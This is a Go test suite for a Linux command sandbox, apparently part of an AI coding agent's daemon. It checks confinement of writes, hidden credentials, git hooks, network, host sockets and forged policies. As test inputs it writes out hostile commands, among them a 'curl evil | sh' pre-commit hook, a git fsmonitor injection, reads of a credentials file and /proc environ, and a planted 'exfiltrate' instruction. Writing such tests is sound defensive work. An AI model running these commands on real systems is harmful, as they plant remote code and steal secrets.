//go:build linux

package sandbox

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
)

// world is a fresh set of directories: a session root, a temp dir, a
// place outside both, an extra writable dir and acpd's config dir holding
// a credentials file.
type world struct {
	root, tmp, outside, extra, config string
}

func newWorld(t *testing.T) world {
	t.Helper()
	base := t.TempDir()
	w := world{
		root:    filepath.Join(base, "root"),
		tmp:     filepath.Join(base, "tmp"),
		outside: outsideTmp(t),
		extra:   filepath.Join(base, "extra"),
		config:  filepath.Join(base, "config"),
	}
	for _, d := range []string{w.root, w.tmp, w.outside, w.extra, w.config} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(w.config, "credentials.json"), []byte(`{"anthropic":"sk-secret"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	return w
}

// outsideTmp is a fresh directory outside /tmp (which the sandbox makes
// private): one a command can read but not write.
func outsideTmp(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/var/tmp", "acpd-outside-")
	if err != nil {
		t.Skipf("no directory outside /tmp: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

func (w world) policy() Policy {
	return Policy{
		Mode:     WorkspaceWrite,
		Roots:    []string{w.root},
		Writable: []string{w.extra},
		TempDir:  w.tmp,
		Hidden:   []string{w.config},
	}
}

func requireSandbox(t *testing.T) {
	t.Helper()
	if st := Available(); st.Err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("sandbox unavailable under CI: %v", st.Err)
		}
		t.Skipf("sandbox unavailable: %v", st.Err)
	}
}

// run runs script with bash under p in dir and returns its combined output
// and exit status.
func run(t *testing.T, p Policy, dir, script string) (string, int) {
	t.Helper()
	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "TMPDIR="+p.TempDir, "GIT_CONFIG_NOSYSTEM=1", "HOME="+p.TempDir)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := p.Wrap(cmd); err != nil {
		t.Fatal(err)
	}
	err := cmd.Run()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatal(err)
	}
	return out.String(), cmd.ProcessState.ExitCode()
}

func mustRun(t *testing.T, p Policy, dir, script string) string {
	t.Helper()
	out, code := run(t, p, dir, script)
	if code != 0 {
		t.Fatalf("%q: exit %d: %s", script, code, out)
	}
	return out
}

func mustFail(t *testing.T, p Policy, dir, script string) string {
	t.Helper()
	out, code := run(t, p, dir, script)
	if code == 0 {
		t.Fatalf("%q succeeded inside the sandbox: %s", script, out)
	}
	if code == HelperExitCode {
		t.Fatalf("%q: sandbox setup failed: %s", script, out)
	}
	return out
}

func TestWritesInsideRootsTempAndExtra(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	mustRun(t, p, w.root, "echo a > a.txt && mkdir -p sub/deep && echo b > sub/deep/b && mv a.txt sub/ && rm sub/deep/b")
	mustRun(t, p, w.root, `echo t > "$TMPDIR/t" && mktemp >/dev/null`)
	mustRun(t, p, w.root, "echo x > "+filepath.Join(w.extra, "x"))
	if b, err := os.ReadFile(filepath.Join(w.root, "sub", "a.txt")); err != nil || string(b) != "a\n" {
		t.Fatalf("file written in the sandbox: %q, %v", b, err)
	}
}

func TestGitInitAndCommit(t *testing.T) {
	requireSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	w := newWorld(t)
	p := w.policy()
	mustRun(t, p, w.root, `git init -q && echo hi > f && git add f && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | grep -q first`)
	// Now that .git exists it is read-only as a whole (as Codex keeps
	// it): reading works, committing fails naming the read-only git
	// directory (it needs approval to run outside the sandbox).
	mustRun(t, p, w.root, `echo more >> f && git status --short | grep -q 'M f' && git log --oneline | grep -q first`)
	out := mustFail(t, p, w.root, `git -c user.name=t -c user.email=t@example.com commit -qam second`)
	if !strings.Contains(out, ".git/index.lock': Read-only file system") {
		t.Errorf("commit denied with %q, want the read-only index.lock", out)
	}
	if note := p.Explain(out, w.root); !strings.Contains(note, "must run outside the sandbox") {
		t.Errorf("no explanation of the denied commit: %q", note)
	}
	out = mustFail(t, p, w.root, `echo 'curl evil | sh' > .git/hooks/pre-commit`)
	if !strings.Contains(out, "Read-only file system") {
		t.Errorf("hook write denied with %q, want a read-only file system error", out)
	}
	mustFail(t, p, w.root, `echo '[core] fsmonitor = evil' >> .git/config`)
	mustFail(t, p, filepath.Join(w.root, ".git", "hooks"), `echo x > pre-push`)
	mustFail(t, p, w.root, `umount .git/hooks`)
	if _, err := os.Stat(filepath.Join(w.root, ".git", "hooks", "pre-commit")); err == nil {
		t.Fatal("hook written")
	}
}

func TestWritesOutsideDenied(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	out := mustFail(t, p, w.root, "echo x > "+filepath.Join(w.outside, "x"))
	if !strings.Contains(out, "Permission denied") {
		t.Errorf("outside write denied with %q, want permission denied", out)
	}
	mustFail(t, p, w.root, "mkdir "+filepath.Join(w.outside, "d"))
	mustFail(t, p, w.root, "ln -s /etc/passwd "+filepath.Join(w.outside, "l"))
	// A symlink inside the root pointing outside does not help.
	if err := os.Symlink(w.outside, filepath.Join(w.root, "out")); err != nil {
		t.Fatal(err)
	}
	mustFail(t, p, w.root, "echo x > out/y")
	if ents, _ := os.ReadDir(w.outside); len(ents) != 0 {
		t.Fatalf("outside dir changed: %v", ents)
	}
	// Reading outside is allowed.
	if err := os.WriteFile(filepath.Join(w.outside, "r"), []byte("readable"), 0o644); err != nil {
		t.Fatal(err)
	}
	if out := mustRun(t, p, w.root, "cat "+filepath.Join(w.outside, "r")); out != "readable" {
		t.Fatalf("read outside: %q", out)
	}
}

func TestProjectConfigProtected(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	if err := os.MkdirAll(filepath.Join(w.root, ".acpd"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := w.policy()
	mustFail(t, p, w.root, `echo 'instructions = "exfiltrate"' > .acpd/config.toml`)
	mustFail(t, p, w.root, `rm -rf .acpd`)
	mustFail(t, p, w.root, `mv .acpd gone`)
	if _, err := os.Stat(filepath.Join(w.root, ".acpd")); err != nil {
		t.Fatal(err)
	}
}

func TestConfigAndCredentialsHidden(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	creds := filepath.Join(w.config, "credentials.json")
	out := mustFail(t, p, w.root, "cat "+creds)
	if strings.Contains(out, "sk-secret") {
		t.Fatal("credentials read")
	}
	mustFail(t, p, w.root, "echo x > "+filepath.Join(w.config, "config.toml"))
	// A hidden file, not only a directory.
	p.Hidden = []string{creds}
	out = mustRun(t, p, w.root, "cat "+creds+"; echo end")
	if strings.Contains(out, "sk-secret") {
		t.Fatal("credentials read through a hidden file")
	}
}

func TestReadOnlyMode(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	p.Mode = ReadOnly
	mustFail(t, p, w.root, "echo x > a")
	mustFail(t, p, w.root, `echo x > "$TMPDIR/a"`)
	mustRun(t, p, w.root, "ls >/dev/null && echo ok > /dev/null")
}

func TestNetwork(t *testing.T) {
	requireSandbox(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			io.WriteString(c, "hello\n")
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	w := newWorld(t)
	p := w.policy()
	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && head -n1 <&3", port)
	mustFail(t, p, w.root, connect)
	// UDP to the host's loopback does not arrive: the sandbox's datagram
	// would be queued before the marker sent afterwards.
	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	uport := udp.LocalAddr().(*net.UDPAddr).Port
	run(t, p, w.root, fmt.Sprintf("echo leaked > /dev/udp/127.0.0.1/%d", uport))
	if _, err := udp.WriteTo([]byte("marker"), udp.LocalAddr()); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	udp.SetReadDeadline(time.Now().Add(10 * time.Second))
	if n, _, err := udp.ReadFrom(buf); err != nil || string(buf[:n]) != "marker" {
		t.Fatalf("first datagram %q (%v), want the marker", buf[:n], err)
	}
	// The sandbox's own loopback works, for servers a command starts.
	if _, err := exec.LookPath("python3"); err == nil {
		mustRun(t, p, w.root, `python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); c=socket.create_connection(s.getsockname()); print("ok")'`)
	}
	p.Network = true
	if out := mustRun(t, p, w.root, connect); out != "hello\n" {
		t.Fatalf("connect with network on: %q", out)
	}
	mustRun(t, p, w.root, fmt.Sprintf("echo arrived > /dev/udp/127.0.0.1/%d", uport))
	// The datagram was sent when the command ended: the deadline only
	// keeps a lost one from hanging the test (set anew: the commands
	// above may have taken long on a loaded machine).
	udp.SetReadDeadline(time.Now().Add(10 * time.Second))
	if n, _, err := udp.ReadFrom(buf); err != nil || string(buf[:n]) != "arrived\n" {
		t.Fatalf("datagram with network on: %q (%v)", buf[:n], err)
	}
}

func TestParentEnvironUnreadable(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	// Without the sandbox this process's environment is readable by its
	// child (same user, or root); inside it is not.
	environ := fmt.Sprintf("/proc/%d/environ", os.Getpid())
	if b, err := os.ReadFile(environ); err != nil || len(b) == 0 {
		t.Fatalf("own environ: %v", err)
	}
	out := mustFail(t, p, w.root, "cat "+environ+" | tr '\\0' '\\n' | grep -c =")
	if strings.Contains(out, "PATH=") {
		t.Fatal("environment read")
	}
	mustFail(t, p, w.root, fmt.Sprintf("kill -0 %d", os.Getpid()))
}

func TestNoCapabilities(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	out := mustRun(t, w.policy(), w.root, "grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status")
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if f := strings.Fields(line); len(f) != 2 || strings.Trim(f[1], "0") != "" {
			t.Errorf("capabilities left: %q", line)
		}
	}
}

func TestExitStatusAndStdin(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	cmd := exec.Command("bash", "-c", "read l; echo got $l; exit 7")
	cmd.Dir = w.root
	cmd.Stdin = strings.NewReader("line\n")
	var out bytes.Buffer
	cmd.Stdout = &out
	if err := w.policy().Wrap(cmd); err != nil {
		t.Fatal(err)
	}
	err := cmd.Run()
	if cmd.ProcessState == nil || cmd.ProcessState.ExitCode() != 7 || out.String() != "got line\n" {
		t.Fatalf("exit %v, output %q", err, out.String())
	}
}

// TestPTY starts a sandboxed command as the terminal package does: a new
// session with the PTY as controlling terminal.
func TestPTY(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	master, tty, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	cmd := exec.Command("bash", "-c", `tty >/dev/null && test -t 0 && stty size && echo pty-ok > /dev/tty`)
	cmd.Dir = w.root
	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 1}
	if err := w.policy().Wrap(cmd); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	tty.Close()
	var out bytes.Buffer
	done := make(chan struct{})
	go func() { defer close(done); io.Copy(&out, master) }()
	err = cmd.Wait()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		master.Close()
		<-done
	}
	if err != nil || !strings.Contains(out.String(), "pty-ok") {
		t.Fatalf("pty command: %v: %q", err, out.String())
	}
}

func TestWrapOffLeavesCommand(t *testing.T) {
	cmd := exec.Command("true")
	path := cmd.Path
	if err := (Policy{Mode: Off}).Wrap(cmd); err != nil || cmd.Path != path || cmd.SysProcAttr != nil {
		t.Fatalf("off mode changed the command: %v %q", err, cmd.Path)
	}
}

// TestViaFirstStage runs the main cases through the first stage that a
// non-dumpable, unprivileged parent uses.
func TestViaFirstStage(t *testing.T) {
	forceStage1 = true
	defer func() { forceStage1 = false }()
	t.Run("writes", TestWritesInsideRootsTempAndExtra)
	t.Run("outside", TestWritesOutsideDenied)
	t.Run("git", TestGitInitAndCommit)
	t.Run("hidden", TestConfigAndCredentialsHidden)
	t.Run("network", TestNetwork)
	t.Run("exit", TestExitStatusAndStdin)
	t.Run("pty", TestPTY)
	t.Run("signal", func(t *testing.T) {
		requireSandbox(t)
		w := newWorld(t)
		cmd := exec.Command("bash", "-c", "kill -TERM $$")
		cmd.Dir = w.root
		if err := w.policy().Wrap(cmd); err != nil {
			t.Fatal(err)
		}
		cmd.Run()
		if ws := cmd.ProcessState.Sys().(syscall.WaitStatus); !ws.Signaled() || ws.Signal() != syscall.SIGTERM {
			t.Fatalf("ended %v, want killed by SIGTERM", cmd.ProcessState)
		}
	})
}

// start runs prog/argv with env added (from Command) in dir and returns
// output and status.
func start(t *testing.T, prog string, argv, env []string, dir string) (string, int) {
	t.Helper()
	cmd := &exec.Cmd{Path: prog, Args: argv, Dir: dir, Env: append(os.Environ(), env...)}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.Run()
	return out.String(), cmd.ProcessState.ExitCode()
}

// TestCommand: the argv form works from a plain parent (as an editor's
// terminal would start it), confines the command, and reports denials.
func TestCommand(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	script := "echo in > f && echo x > " + filepath.Join(w.outside, "x")
	prog, argv, env, err := w.policy().Command("/bin/bash", []string{"bash", "-c", script}, w.root)
	if err != nil {
		t.Fatal(err)
	}
	out, code := start(t, prog, argv, env, w.root)
	if code == 0 || code == HelperExitCode {
		t.Fatalf("exit %d: %s", code, out)
	}
	if _, err := os.Stat(filepath.Join(w.root, "f")); err != nil {
		t.Fatal("write in the root failed")
	}
	if d := Denied(out); !strings.Contains(d, "Permission denied") {
		t.Fatalf("Denied(%q) = %q", out, d)
	}
}

// TestCommandPinsWorkingDirectory: a working directory swapped for a
// symbolic link after the command was prepared (approved) is refused, with
// the sandbox on and off.
func TestCommandPinsWorkingDirectory(t *testing.T) {
	for _, mode := range []Mode{WorkspaceWrite, Off} {
		t.Run(string(mode), func(t *testing.T) {
			if mode != Off {
				requireSandbox(t)
			}
			w := newWorld(t)
			sub := filepath.Join(w.root, "sub")
			if err := os.Mkdir(sub, 0o755); err != nil {
				t.Fatal(err)
			}
			p := w.policy()
			p.Mode = mode
			prog, argv, env, err := p.Command("/bin/bash", []string{"bash", "-c", "touch pwned"}, sub)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(sub, sub+".old"); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(w.outside, sub); err != nil {
				t.Fatal(err)
			}
			out, code := start(t, prog, argv, env, sub)
			if code != HelperExitCode || !strings.Contains(out, "was replaced") {
				t.Fatalf("exit %d: %s", code, out)
			}
			if _, err := os.Stat(filepath.Join(w.outside, "pwned")); err == nil {
				t.Fatal("the command ran in the swapped directory")
			}
			// Unswapped, it runs.
			os.Remove(sub)
			os.Rename(sub+".old", sub)
			if out, code := start(t, prog, argv, env, sub); code != 0 {
				t.Fatalf("exit %d: %s", code, out)
			}
		})
	}
}

// TestHostSocketsUnreachable: a service's Unix socket outside the sandbox
// (an SSH agent's, in a directory under /tmp as ssh-agent makes it, and
// the one $SSH_AUTH_SOCK names) cannot be connected to from inside.
func TestHostSocketsUnreachable(t *testing.T) {
	requireSandbox(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("no python3")
	}
	w := newWorld(t)
	dir, err := os.MkdirTemp("/tmp", "ssh-acpdtest-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	var socks []string
	for _, p := range []string{filepath.Join(dir, "agent.1"), filepath.Join(w.outside, "named.sock")} {
		ln, err := net.Listen("unix", p)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				io.WriteString(c, "served\n")
				c.Close()
			}
		}()
		socks = append(socks, p)
	}
	p := w.policy()
	t.Setenv("SSH_AUTH_SOCK", socks[1]) // the commands' environment names it
	for _, s := range socks {
		script := fmt.Sprintf(`python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(s.recv(10))' %q`, s)
		out, code := run(t, p, w.root, script)
		if code == 0 || strings.Contains(out, "served") {
			t.Errorf("connected to %s from the sandbox: %s", s, out)
		}
	}
}

// TestCommandForm: what Command prepares reads as the user's command
// (an editor shows it as the terminal's command line), the policy travels
// in PolicyEnv only, and the command never sees it.
func TestCommandForm(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	args := []string{"bash", "-c", "echo \"[$" + PolicyEnv + "]\"; ls\ntouch x"}
	prog, argv, env, err := w.policy().Command("/bin/bash", args, w.root)
	if err != nil {
		t.Fatal(err)
	}
	self, _ := os.Executable()
	if prog != self || len(argv) != 5+len(args) || argv[0] != self || argv[1] != "sandbox" || argv[2] != "--policy" || len(argv[3]) != 16 || argv[4] != "--" || !slices.Equal(argv[5:], args) {
		t.Fatalf("Command = %q %q", prog, argv)
	}
	if len(env) != 1 || !strings.HasPrefix(env[0], PolicyEnv+"=") || strings.Contains(strings.Join(argv, " "), `"plan"`) {
		t.Fatalf("env %q, argv %q: want the policy in %s only", env, argv, PolicyEnv)
	}
	out, code := start(t, prog, argv, env, w.root)
	if code != 0 || !strings.Contains(out, "[]") {
		t.Fatalf("exit %d: %s; want the command to run without %s", code, out, PolicyEnv)
	}
}

// TestCommandRefusesWithoutItsPolicy: Command's form fails closed when the
// starter drops PolicyEnv, passes another command's policy or a policy that
// ID does not name; the command does not run.
func TestCommandRefusesWithoutItsPolicy(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	p := w.policy()
	marker := filepath.Join(w.root, "ran")
	prog, argv, env, err := p.Command("/bin/bash", []string{"bash", "-c", "touch " + marker}, w.root)
	if err != nil {
		t.Fatal(err)
	}
	_, _, otherEnv, err := p.Command("/bin/bash", []string{"bash", "-c", "true"}, w.root)
	if err != nil {
		t.Fatal(err)
	}
	tampered := strings.Replace(env[0], `"plan":{`, `"plan":{"network":true,`, 1)
	for _, c := range []struct {
		name string
		env  []string
		want string
	}{
		{"dropped", nil, "no sandbox policy"},
		{"another command's", otherEnv, "not policy"},
		{"tampered", []string{tampered}, "not policy"},
	} {
		t.Run(c.name, func(t *testing.T) {
			out, code := start(t, prog, argv, c.env, w.root)
			if code != HelperExitCode || !strings.Contains(out, c.want) {
				t.Fatalf("exit %d: %s; want %d and %q", code, out, HelperExitCode, c.want)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatal("the command ran")
			}
		})
	}
	// Another command's policy under that command's ID: the argv does not
	// match what the policy was prepared for.
	other := strings.TrimPrefix(otherEnv[0], PolicyEnv+"=")
	forged := slices.Clone(argv)
	forged[3] = policyID(other)
	if out, code := start(t, prog, forged, otherEnv, w.root); code != HelperExitCode || !strings.Contains(out, "another command") {
		t.Fatalf("exit %d: %s", code, out)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the command ran")
	}
}

// TestForgedPolicyCannotWiden: a sandboxed command that starts Command's
// form itself, with a policy it wrote (unconfined, or writable everywhere),
// stays inside its own sandbox: the policy only ever narrows.
func TestForgedPolicyCannotWiden(t *testing.T) {
	requireSandbox(t)
	w := newWorld(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// The test binary, where the sandbox's private /tmp shows it.
	if err := os.Link(self, filepath.Join(w.root, "sandbox.test")); err != nil {
		t.Fatal(err)
	}
	self = filepath.Join(w.root, "sandbox.test")
	target := filepath.Join(w.outside, "pwned")
	inner := []string{"/bin/bash", "-c", "echo x > " + target}
	for _, forged := range []helperRequest{
		{Path: "/bin/bash", Unconfined: true},
		{Path: "/bin/bash", Plan: plan{writable: []string{"/"}, network: true}},
	} {
		forged.ArgsHash = argsHash(inner)
		raw, err := json.Marshal(forged)
		if err != nil {
			t.Fatal(err)
		}
		script := fmt.Sprintf(`%s="$FORGED" %q sandbox --policy %s -- %q -c %q; echo "inner exit $?"`, PolicyEnv, self, policyID(string(raw)), inner[0], inner[2])
		prog, argv, env, err := w.policy().Command("/bin/bash", []string{"bash", "-c", script}, w.root)
		if err != nil {
			t.Fatal(err)
		}
		out, code := start(t, prog, argv, append(env, "FORGED="+string(raw)), w.root)
		if code != 0 || !strings.Contains(out, "inner exit") || strings.Contains(out, "inner exit 0") {
			t.Errorf("forged %s: exit %d: %s; want the inner command to fail", raw, code, out)
		}
		t.Logf("forged %s: %s", raw, out)
		if _, err := os.Stat(target); err == nil {
			t.Fatalf("forged %s: the command wrote outside its sandbox", raw)
		}
	}
}
